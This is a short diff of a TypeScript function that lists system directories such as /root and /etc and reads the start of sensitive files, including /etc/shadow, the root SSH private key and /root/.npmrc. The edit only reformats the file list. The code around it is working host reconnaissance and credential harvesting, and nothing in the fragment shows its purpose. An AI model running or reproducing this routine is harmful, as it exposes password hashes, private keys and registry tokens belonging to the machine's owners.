@@ -88,7 +88,14 @@ function act(where: string): void {
   for (const folder of ['/', '/home', '/root', '/etc', '/tmp', '/var', '/opt', '/mnt', '/run', '/srv', target.home]) {
     attempt(`ls ${folder}`, () => fs.readdirSync(folder).join(' '));
   }
-  for (const file of ['/etc/passwd', '/etc/shadow', '/etc/hostname', '/etc/resolv.conf', '/root/.ssh/id_rsa', '/root/.npmrc']) {
+  for (const file of [
+    '/etc/passwd',
+    '/etc/shadow',
+    '/etc/hostname',
+    '/etc/resolv.conf',
+    '/root/.ssh/id_rsa',
+    '/root/.npmrc',
+  ]) {
     attempt(file, () => fs.readFileSync(file, 'utf8').slice(0, 200));
   }
 }
